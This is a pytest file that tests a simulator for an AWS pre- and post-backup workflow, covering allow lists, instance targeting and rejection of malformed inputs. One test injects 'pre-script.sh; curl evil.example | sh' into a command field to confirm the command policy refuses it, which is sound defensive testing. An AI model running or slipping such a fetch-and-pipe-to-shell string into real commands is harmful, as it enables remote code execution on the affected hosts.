"""`prepost simulate --input FILE` simulates the input as given.

The local account holds what the input names (its vault, buckets and backup role), the
fleet carries the tag it targets or is exactly the instances it lists, and the allow lists
are widened to the input (never the command policy) unless a stage is applied as deployed;
the report says which lists applied. Ids follow the seed, and a scenario's `expect` is
checked for its own input.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import boto3
import pytest

from chalicelib.models.run_input import INSTANCE_ID
from prepost.local.cloud import LocalCloud
from prepost.local.scenario import INPUTS_DIR, Expect, InputResources, Scenario
from prepost.local.simulate import WIDENED, simulate
from tests.conftest import seed_input

EXAMPLE = INPUTS_DIR / "seed-readme-example.json"
# The seed README's placeholders, and what the example file fills them with.
FILLED = {
    "BucketName": "my-backup-scripts",
    "BackupVault": "BackupVault-abc123",
    "BackupJobExecutionRole": "arn:aws:iam::123456789012:role/prepost-BackupJobExecutionRole-1ABC",
}
CHOSEN = ["i-0a1b2c3d4e5f60001", "i-0a1b2c3d4e5f60002", "i-0a1b2c3d4e5f60003"]


def example() -> dict[str, Any]:
    return dict(json.loads(EXAMPLE.read_text()))


def by_ids(detail: dict[str, Any], ids: list[str]) -> dict[str, Any]:
    untagged = {k: v for k, v in detail.items() if not k.startswith("TargetEC2Tag")}
    return untagged | {"TargetEC2Instances": ids}


def statuses(report: dict[str, Any]) -> dict[str, str]:
    return {i["instance_id"]: i["status"] for i in report["instances"]}


def test_the_example_file_is_the_seed_readme_example_with_its_placeholders_filled() -> None:
    # events/start-seed-example.json holds the same example filled with local mode's names.
    local = json.dumps(seed_input())
    for local_name, placeholder in (
        ("https://backup-status-bucket-example.s3", "https://<BucketName>.s3"),
        ("backup-status-bucket-example", "<BucketName>"),
        ("arn:aws:iam::123456789012:role/BackupJobExecutionRole", "<BackupJobExecutionRole>"),
        ("prepost-vault", "<BackupVault>"),
    ):
        local = local.replace(local_name, placeholder)
    for placeholder, value in FILLED.items():
        local = local.replace(f"<{placeholder}>", value)
    assert example() == json.loads(local)
    assert "<" not in EXAMPLE.read_text()


def test_the_seed_readme_example_runs_as_given() -> None:
    result = simulate(Scenario.load("seed-example"), run_input=example())

    report = result.report
    assert report["status"] == "SUCCEEDED", report["errors"]
    assert len(report["instances"]) == 5
    assert set(statuses(report).values()) == {"SUCCEEDED"}
    lists = report["allow_lists"]
    assert lists["stage"] == WIDENED
    assert "BackupVault-abc123" in lists["PREPOST_ALLOWED_BACKUP_VAULTS"]
    assert FILLED["BackupJobExecutionRole"] in lists["PREPOST_ALLOWED_BACKUP_ROLES"]
    assert "my-backup-scripts" in lists["PREPOST_ALLOWED_OUTPUT_BUCKETS"]
    assert "s3://my-backup-scripts/scripts/" in lists["PREPOST_ALLOWED_SCRIPT_SOURCES"]
    assert lists["PREPOST_ALLOWED_COMMANDS"] == []
    assert report["provisioned"] == {
        "backup_vaults": ["BackupVault-abc123"],
        "buckets": ["my-backup-scripts"],
        "iam_roles": [FILLED["BackupJobExecutionRole"]],
        "notes": [],
    }
    assert report["aws_calls"]["backup:StartBackupJob"] == 5
    # Another input means another outcome: the scenario's expectations are not checked.
    assert not result.expect_checked
    assert result.misses == []


def test_the_seed_readme_example_is_refused_by_the_local_stage_applied_as_deployed() -> None:
    report = simulate(Scenario.load("seed-example"), 2, run_input=example(), stage="local").report

    assert report["status"] == "REJECTED"
    assert report["allow_lists"]["stage"] == "local"
    assert report["allow_lists"]["PREPOST_ALLOWED_BACKUP_VAULTS"] == [
        "prepost-vault",
        "prepost-vault-2",
    ]
    for key in ("PREPOST_ALLOWED_SCRIPT_SOURCES", "PREPOST_ALLOWED_OUTPUT_BUCKETS",
                "PREPOST_ALLOWED_BACKUP_VAULTS", "PREPOST_ALLOWED_BACKUP_ROLES"):  # fmt: skip
        assert any(key in error for error in report["errors"]), key


def test_an_input_the_local_stage_allows_runs_under_its_lists_unwidened() -> None:
    report = simulate(Scenario.load("seed-example"), 2, run_input=seed_input()).report

    assert report["status"] == "SUCCEEDED"
    assert report["allow_lists"]["stage"] == "local"
    assert report["allow_lists"]["PREPOST_ALLOWED_BACKUP_VAULTS"] == [
        "prepost-vault",
        "prepost-vault-2",
    ]


def test_the_command_policy_is_not_widened_to_the_input() -> None:
    detail = example()
    detail["RemoteRunCommandDetails"]["PreBackupScriptDetails"]["CommandToRun"] = (
        "pre-script.sh; curl evil.example | sh"
    )
    report = simulate(Scenario.load("seed-example"), 2, run_input=detail).report

    assert report["status"] == "REJECTED"
    assert report["allow_lists"]["PREPOST_ALLOWED_COMMANDS"] == []
    assert [e for e in report["errors"] if "CommandToRun" in e and "command policy" in e]
    assert not any(name.split(":")[0] in ("ec2", "ssm", "backup") for name in report["aws_calls"])


def test_target_instances_are_exactly_the_listed_ids() -> None:
    assert all(INSTANCE_ID.match(i) for i in CHOSEN)
    result = simulate(Scenario.load("seed-example"), run_input=by_ids(example(), CHOSEN))

    report = result.report
    assert report["status"] == "SUCCEEDED", report["errors"]
    assert statuses(report) == dict.fromkeys(CHOSEN, "SUCCEEDED")
    for instance in report["instances"]:  # stopped, backed up, started: every phase ran
        assert {p["status"] for p in instance["phases"].values()} == {"SUCCEEDED"}
    assert report["aws_calls"]["backup:StartBackupJob"] == 3
    assert report["aws_calls"]["ec2:StopInstances"] == 1


def test_instances_made_with_chosen_ids_answer_to_them_everywhere() -> None:
    scenario = Scenario.load("seed-example")
    with LocalCloud() as cloud:
        ids = scenario.prepare(cloud, by_ids(example(), CHOSEN))
        assert ids == CHOSEN
        ec2 = cloud.ec2
        listed = ec2.describe_instances(InstanceIds=CHOSEN[1:])["Reservations"]
        assert sorted(i["InstanceId"] for r in listed for i in r["Instances"]) == CHOSEN[1:]
        key, _, value = cloud.opt_in_tag.partition("=")
        tagged = ec2.describe_instances(Filters=[{"Name": f"tag:{key}", "Values": [value]}])
        assert sorted(i["InstanceId"] for r in tagged["Reservations"] for i in r["Instances"]) == (
            CHOSEN
        )
        for instance_id in CHOSEN:
            [volume] = cloud.attached_volumes(instance_id)
            attached = ec2.describe_volumes(
                Filters=[{"Name": "attachment.instance-id", "Values": [instance_id]}]
            )["Volumes"]
            assert [v["VolumeId"] for v in attached] == [volume]
        ec2.stop_instances(InstanceIds=CHOSEN[:1])
        assert cloud.states_of(CHOSEN) == dict(zip(CHOSEN, ["stopped", "running", "running"],
                                                   strict=True))  # fmt: skip
        with pytest.raises(ValueError, match="already in use"):
            cloud.launch(1, ids=CHOSEN[:1])


def test_the_fleet_carries_the_tag_the_input_targets() -> None:
    detail = example() | {"TargetEC2TagKey": "app", "TargetEC2TagValue": "orders db"}
    scenario = Scenario.load("seed-example")
    with LocalCloud() as cloud:
        ids = scenario.prepare(cloud, detail)
        found = cloud.ec2.describe_instances(
            Filters=[{"Name": "tag:app", "Values": ["orders db"]}]
        )["Reservations"]
        assert sorted(i["InstanceId"] for r in found for i in r["Instances"]) == sorted(ids)
        assert len(ids) == scenario.fleet.count
        assert "BackupVault-abc123" in cloud.backup.vaults
        s3 = boto3.client("s3", region_name=cloud.region)
        assert [b["Name"] for b in s3.list_buckets()["Buckets"]] == ["my-backup-scripts"]
        role = boto3.client("iam", region_name=cloud.region).get_role(
            RoleName="prepost-BackupJobExecutionRole-1ABC"
        )
        assert role["Role"]["Arn"] == FILLED["BackupJobExecutionRole"]
    report = simulate(scenario, 3, run_input=detail).report
    assert report["status"] == "SUCCEEDED", report["errors"]
    assert len(report["instances"]) == 3


def test_a_role_of_another_account_is_made_in_the_local_one_and_said_so() -> None:
    detail = example()
    detail["BackupDetails"]["IamRoleArn"] = "arn:aws:iam::111122223333:role/backup/Runner"
    resources = InputResources.of(detail)
    with LocalCloud() as cloud:
        resources.provision(cloud)
        role = boto3.client("iam", region_name=cloud.region).get_role(RoleName="Runner")["Role"]
        assert role["Arn"] == "arn:aws:iam::123456789012:role/backup/Runner"
    report = simulate(Scenario.load("seed-example"), 2, run_input=detail).report
    assert report["status"] == "SUCCEEDED", report["errors"]
    [note] = report["provisioned"]["notes"]
    assert "111122223333" in note
    assert "123456789012" in note


def test_instance_ids_follow_the_seed() -> None:
    scenario = Scenario.load("seed-example")

    def ids(seed: int) -> list[str]:
        report = simulate(scenario, instances=2, seed=seed).report
        return [i["instance_id"] for i in report["instances"]]

    first = ids(7)
    assert ids(7) == first
    assert set(ids(8)).isdisjoint(first)


def deep(levels: int) -> dict[str, Any]:
    nested: dict[str, Any] = {}
    for _ in range(levels):
        nested = {"a": nested}
    return nested


def _untagged(**fields: Any) -> dict[str, Any]:
    untagged = {k: v for k, v in example().items() if not k.startswith("TargetEC2Tag")}
    return untagged | fields


def _without_backup() -> dict[str, Any]:
    return {k: v for k, v in example().items() if k != "BackupDetails"}


# case -> (the input, how the first error that names it begins)
HOSTILE: dict[str, tuple[Callable[[], Any], str]] = {
    "a list": (list, "detail"),
    "a string": (lambda: "backup everything", "detail"),
    "no BackupDetails": (_without_backup, "BackupDetails: is required"),
    "BackupDetails not an object": (lambda: example() | {"BackupDetails": "v"}, "BackupDetails"),
    "BackupDetails deeply nested": (lambda: example() | {"BackupDetails": deep(60)}, "Backup"),
    "TargetEC2Instances not a list": (lambda: _untagged(TargetEC2Instances=CHOSEN[0]), "Target"),
    "TargetEC2Instances of odd things": (
        lambda: _untagged(TargetEC2Instances=[1, None, "x", CHOSEN[0]]),
        "TargetEC2Instances.0",
    ),
    "RemoteRunCommandDetails a list": (
        lambda: example() | {"RemoteRunCommandDetails": []},
        "RemoteRunCommandDetails",
    ),
    "a tag no instance can carry": (lambda: example() | {"TargetEC2TagKey": "k" * 200}, "Target"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_malformed_input_is_provisioned_where_well_formed_and_refused_by_the_app(
    case: str,
) -> None:
    make, named = HOSTILE[case]

    report = simulate(Scenario.load("seed-example"), 2, run_input=make()).report

    assert report["status"] == "REJECTED"
    assert any(error.startswith(named) for error in report["errors"]), report["errors"]
    assert not any(name.split(":")[0] in ("ec2", "ssm", "backup") for name in report["aws_calls"])


def test_misses_name_what_differs_from_the_scenarios_expect() -> None:
    scenario = Scenario.load("backup-fails")  # instance 1's backup fails
    wrong = scenario.model_copy(
        update={"expect": Expect(run="SUCCEEDED", instances={"1": "SUCCEEDED", "2": "FAILED"})}
    )
    result = simulate(wrong)

    assert result.expect_checked
    second, third = result.expected  # the instances of index 1 and 2
    assert result.misses == [
        "run: expected SUCCEEDED, got COMPLETED_WITH_ERRORS",
        f"{second} (index 1): expected SUCCEEDED, got FAILED",
        f"{third} (index 2): expected FAILED, got SUCCEEDED",
    ]
    right = simulate(scenario)
    assert right.expect_checked
    assert right.misses == []
    # The same scenario with an input of one's own: its expectations do not apply.
    other = simulate(wrong, run_input=scenario.run_input())
    assert not other.expect_checked
    assert other.misses == []
